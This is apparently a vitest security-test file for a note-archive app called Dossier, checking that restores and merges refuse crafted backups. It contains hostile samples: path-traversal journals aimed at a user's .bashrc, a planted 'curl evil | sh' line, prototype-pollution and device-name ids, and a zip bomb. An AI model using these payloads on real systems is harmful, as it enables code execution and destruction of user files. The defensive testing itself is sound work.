// Hostile backups and merged files, through the service as the UI and the
// browser mode reach it. Each case was a real hole on 400994d: a crafted file
// wrote or deleted outside the archive, locked the user out, or planted items
// nobody could open. Here each must be refused (or skipped, with its reason)
// and leave everything outside the archive as it was.

import { mkdir, mkdtemp, readdir, readFile, rm, stat, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import type { ImportFile } from '../../shared/api/library'
import type { Result } from '../../shared/result'
import { openService, type DossierService } from '../service'
import { craftBackup } from './backup-merge.test-support'

const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text)
const file = (name: string, body: string | Uint8Array): ImportFile => ({ name, data: typeof body === 'string' ? utf8(body) : body })

function valueOf<T>(result: Result<T>): T {
  if (!result.ok) throw new Error(`${result.error.code}: ${result.error.message}`)
  return result.value
}
function errorOf<T>(result: Result<T>) {
  if (result.ok) throw new Error('expected a failure')
  return result.error
}

const catalog = (articles: object[] = []): string => JSON.stringify({ format: 1, articles })
const meta = (id: string, title = 'Planted'): object => ({
  id,
  title,
  addedAt: '2026-11-30T09:00:00.000Z',
  updatedAt: '2026-11-30T09:00:00.000Z',
  tags: [],
  format: 'text',
  wordCount: 1,
  readingMinutes: 1,
  contentHash: 'x',
})

let root: string
/** Stands for the user's home: nothing in it may change. */
let home: string
let dir: string
let service: DossierService

const homeFiles = async (): Promise<Record<string, string>> => {
  const names = await readdir(home, { recursive: true })
  const out: Record<string, string> = {}
  for (const name of names.sort()) {
    const path = join(home, name)
    if ((await stat(path)).isFile()) out[name] = await readFile(path, 'utf8')
  }
  return out
}

beforeEach(async () => {
  root = await mkdtemp(join(tmpdir(), 'dossier-hostile-'))
  home = join(root, 'home')
  await mkdir(home, { recursive: true })
  await writeFile(join(home, '.bashrc'), 'the user\'s own shell start-up\n')
  await writeFile(join(home, 'thesis.docx'), 'two years of work\n')
  dir = join(root, 'profile', 'archive')
  service = await openService(dir)
  valueOf(await service.api.importFiles([file('grid.txt', 'Grid storage\n\nThe operator added 2 GW of storage in 2023.\n')]))
})
afterEach(async () => {
  await service.close()
  await rm(root, { recursive: true, force: true })
})

/** From the archive folder to the fake home: the climb an attacker's journal would write. */
const climb = (target: string): string => `../../home/${target}`

describe('a restored backup cannot reach outside the archive', () => {
  it('refuses a backup that carries an interrupted-merge journal writing into the user\'s files, and writes nothing', async () => {
    const before = await homeFiles()
    const backup = craftBackup({
      'catalog.json': catalog(),
      '.merge-rollback/journal.json': JSON.stringify([{ path: climb('.bashrc'), existed: true }, { path: climb('thesis.docx'), existed: false }]),
      '.merge-rollback/0': 'curl evil | sh\n',
    })
    const error = errorOf(await service.api.restoreBackup(file('colleague-backup.zip', backup)))
    expect(error.code).toBe('damaged')
    expect(error.message).toMatch(/colleague-backup\.zip.*\.merge-rollback.*internal state/)
    expect(await homeFiles()).toEqual(before)
    // The archive in use was not replaced.
    expect(valueOf(await service.api.listArticles()).map((a) => a.title)).toContain('Grid storage')
  })

  it('a journal planted inside the archive folder by other means is removed unread at the next open', async () => {
    const before = await homeFiles()
    await service.close()
    await mkdir(join(dir, '.merge-rollback'), { recursive: true })
    await writeFile(join(dir, '.merge-rollback', 'journal.json'), JSON.stringify([{ path: climb('thesis.docx'), existed: false }]))
    service = await openService(dir)
    expect(await homeFiles()).toEqual(before)
    await expect(stat(join(dir, '.merge-rollback'))).rejects.toMatchObject({ code: 'ENOENT' })
  })

  it('a journal beside the archive naming a file outside it is not trusted: nothing is written or removed', async () => {
    const before = await homeFiles()
    await service.close()
    const rollback = join(root, 'profile', '.archive.merge-rollback')
    await mkdir(rollback, { recursive: true })
    await writeFile(join(rollback, 'journal.json'), JSON.stringify([{ path: climb('thesis.docx'), existed: false }]))
    await expect(openService(dir)).rejects.toMatchObject({ code: 'damaged', message: expect.stringMatching(/journal Dossier cannot trust/) })
    expect(await homeFiles()).toEqual(before)
    await rm(rollback, { recursive: true })
    service = await openService(dir)
  })

  it.each([
    ['a lock naming another live process', { 'dossier.lock': JSON.stringify({ pid: process.pid, hostname: 'x', startedAt: new Date().toISOString(), command: 'dossier' }) }, /dossier\.lock.*lock of a running Dossier/],
    ['a lock under a name with a trailing slash (found by the fuzzer)', { 'catalog.json': catalog(), 'dossier.lock/': '{}' }, /names a folder, not a file/],
    ['a folder named like the state file, which would keep the archive from opening (found by the fuzzer)', { 'catalog.json': catalog(), 'state.json/x': '{}' }, /own files into a folder/],
    ['a temp file of a cut-short write', { '.catalog.json.0123456789ab.tmp': '{}' }, /internal state/],
    ['a catalog whose article id climbs out', { 'catalog.json': catalog([meta('../../../home/x')]) }, /catalog\.json is not one Dossier can open.*not a valid id/],
    ['a catalog whose article id is a Windows device name', { 'catalog.json': catalog([meta('aux')]) }, /not a valid id/],
    ['a catalog whose article id is an Object member', { 'catalog.json': catalog([meta('constructor')]) }, /not a valid id/],
    ['an article body under a path that is not an id', { 'catalog.json': catalog(), 'articles/notes.txt': '{}' }, /not an article file/],
    ['a file inside a name that is also a file', { 'catalog.json': catalog(), 'notes/a': 'x', 'notes/a/b': 'y' }, /inside a name that is also a file/],
    ['an asset under a name Dossier never writes', { 'catalog.json': catalog(), 'assets/abc/x.svg.html': 'x' }, /not an image file/],
    ['state with a reading position keyed by a path', { 'catalog.json': catalog(), 'state.json': '{"format":1,"positions":{"../x":{"blockId":"b0","fraction":0,"updatedAt":"x"}}}' }, /state\.json is not one Dossier can open/],
  ])('refuses a backup carrying %s, and keeps the archive as it was', async (_name, files, reason) => {
    const error = errorOf(await service.api.inspectBackup(file('b.zip', craftBackup(files))))
    expect(error.message).toMatch(reason)
    expect(errorOf(await service.api.restoreBackup(file('b.zip', craftBackup(files)))).message).toMatch(reason)
    expect(valueOf(await service.api.listArticles()).map((a) => a.title)).toContain('Grid storage')
    // Not locked out: the archive still opens after a close.
    await service.close()
    service = await openService(dir)
  })

  it('a catalog edited by hand to hold an id that climbs out is not trusted, and a re-import writes nothing outside', async () => {
    await service.close()
    const text = await readFile(join(dir, 'catalog.json'), 'utf8')
    const planted = text.replace(/"id":"[0-9a-f]+"/, `"id":"../../../home/x"`)
    await writeFile(join(dir, 'catalog.json'), planted)
    await writeFile(join(dir, 'catalog.json.bak'), planted)
    service = await openService(dir)
    valueOf(await service.api.importFiles([file('grid.txt', 'Grid storage\n\nThe operator added 2 GW of storage in 2023.\n')], { duplicates: 'update' }))
    expect(await readdir(home)).not.toContain('x.json')
    expect(service.notices.join(' ')).toMatch(/catalog\.json/)
  })

  it('refuses a small zip that would unpack to a thousand times its size before unpacking it', async () => {
    const big = new Uint8Array(256 * 1024 * 1024)
    const bomb = craftBackup({ 'catalog.json': catalog(), 'notes/huge.bin': big })
    expect(bomb.byteLength).toBeLessThan(512 * 1024)
    const error = errorOf(await service.api.inspectBackup(file('bomb.zip', bomb)))
    expect(error.message).toMatch(/times its own size/)
  })
})

/** A colleague's notes file, in the shape of Dossier's JSON export, with whatever ids and fields the attacker chose. */
function notesFile(articles: object[], items: object[] = []): string {
  return JSON.stringify({
    type: 'AnnotationCollection',
    first: { type: 'AnnotationPage', items },
    dossier: { formatVersion: 1, appVersion: '0.1.0', exportedAt: '2026-11-30T09:00:00.000Z', articles },
  })
}

const block = { id: 'b0', type: 'paragraph', text: 'Planted text' }
const sharedArticle = async (id: string, fields: Record<string, unknown> = {}): Promise<object> => {
  const { contentHash } = await import('../core/archive/text-stats')
  return { ...meta(id), contentHash: contentHash([block]), blocks: [block], ...fields }
}
const highlightOn = (articleId: string, id = 'a1', note = 'x'): object => ({
  id: `urn:dossier:annotation:${id}`,
  type: 'Annotation',
  created: '2026-11-30T09:00:00.000Z',
  modified: '2026-11-30T09:00:00.000Z',
  creator: 'Mallory',
  body: [{ type: 'TextualBody', value: note, purpose: 'commenting' }],
  target: {
    source: `urn:dossier:article:${articleId}`,
    selector: [
      { type: 'TextQuoteSelector', exact: 'Planted', prefix: '', suffix: '' },
      { type: 'TextPositionSelector', start: 0, end: 7 },
    ],
  },
})

const HOSTILE_IDS = ['aux.json', 'aux', '../../x', '/abs', 'a\u0000b', 'x'.repeat(199), 'constructor', '__proto__']

describe('a merged file cannot plant what the app cannot open', () => {
  it.each(HOSTILE_IDS)('skips an article with the id %j, and its notes, with a reason', async (id) => {
    const before = await homeFiles()
    const shared = notesFile([await sharedArticle(id)], [highlightOn(id)])
    const report = valueOf(await service.api.mergeNotes(file('colleague.json', shared)))
    expect(report.added.articles).toBe(0)
    expect(report.added.annotations).toBe(0)
    expect(report.skipped.some((s) => s.kind === 'article' && /not a valid id|id/.test(s.reason))).toBe(true)
    expect(valueOf(await service.api.listArticles()).map((a) => a.title)).not.toContain('Planted')
    expect(await homeFiles()).toEqual(before)
    expect((await readdir(join(dir, 'articles'))).every((name) => /^[0-9a-f]{12}\.json$/.test(name))).toBe(true)
  })

  it.each(HOSTILE_IDS)('skips an annotation whose own id is %j, and stores the rest', async (id) => {
    const shared = notesFile([await sharedArticle('good1')], [highlightOn('good1', id), highlightOn('good1', 'fine-1')])
    const report = valueOf(await service.api.mergeNotes(file('colleague.json', shared)))
    expect(report.added).toMatchObject({ articles: 1, annotations: 1 })
    expect(report.skipped.map((s) => s.kind)).toEqual(['annotation'])
  })

  it.each([
    ['title', { title: 'T'.repeat(50 * 1024 * 1024) }, /title is 52428800 characters, more than the 500/],
    ['byline', { byline: 'B'.repeat(10_000) }, /byline .* more than the 500/],
    ['tags', { tags: Array.from({ length: 5000 }, (_, i) => `t${i}`) }, /5000 tags, more than the 200/],
  ])('skips an article whose %s is beyond the limit, naming the limit, and the library stays quick to load', async (_field, fields, reason) => {
    const shared = notesFile([await sharedArticle('big1', fields)])
    const report = valueOf(await service.api.mergeNotes(file('colleague.json', shared)))
    expect(report.added.articles).toBe(0)
    expect(report.skipped.find((s) => s.kind === 'article')?.reason).toMatch(reason)
    expect((await stat(join(dir, 'catalog.json'))).size).toBeLessThan(100_000)
  })

  it('skips a note longer than a typed note may be', async () => {
    const shared = notesFile([await sharedArticle('good2')], [highlightOn('good2', 'long', 'n'.repeat(100_001))])
    const report = valueOf(await service.api.mergeNotes(file('colleague.json', shared)))
    expect(report.added.annotations).toBe(0)
    expect(report.skipped[0]?.reason).toMatch(/100000/)
  })

  it('refuses a file with more articles than one merge takes, naming the file and the limit', async () => {
    const many = Array.from({ length: 10_001 }, (_, i) => ({ id: `a${i}` }))
    const error = errorOf(await service.api.mergeNotes(file('colleague.json', notesFile(many))))
    expect(error).toMatchObject({ code: 'too-large', message: expect.stringMatching(/colleague\.json holds 10001 articles; one merge takes at most 10000/) })
  })
})
